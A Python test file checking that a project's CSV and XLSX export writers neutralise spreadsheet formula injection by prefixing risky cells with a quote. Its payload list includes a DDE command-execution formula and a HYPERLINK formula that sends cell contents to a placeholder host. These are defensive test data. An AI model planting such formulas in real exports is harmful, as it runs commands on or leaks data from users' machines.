"""The one export writer turns every cell that a spreadsheet would run into text."""

import csv
import datetime
import io

import openpyxl

from fangkong.lib.exports import neutralise, write_csv, write_xlsx

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",  # DDE
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_it_prefixes_formula_text_and_leaves_the_rest():
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    assert neutralise("张三") == "张三"
    assert neutralise("a=b") == "a=b"
    assert neutralise(-5) == -5
    assert neutralise(datetime.date(2021, 8, 1)) == datetime.date(2021, 8, 1)
    assert neutralise(None) == ""


def test_the_csv_cells_read_back_as_text():
    out = io.StringIO(newline="")
    assert write_csv(out, ["a", "b"], [[p, 1] for p in PAYLOADS]) == len(PAYLOADS)
    rows = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert not any(cell.startswith(DANGEROUS) for row in rows for cell in row)


def test_the_xlsx_holds_no_formula():
    out = io.BytesIO()
    assert write_xlsx(out, "Sheet", ["=header"], [[p] for p in PAYLOADS]) == len(PAYLOADS)
    out.seek(0)
    sheet = openpyxl.load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == ["'=header"] + ["'" + p for p in PAYLOADS]
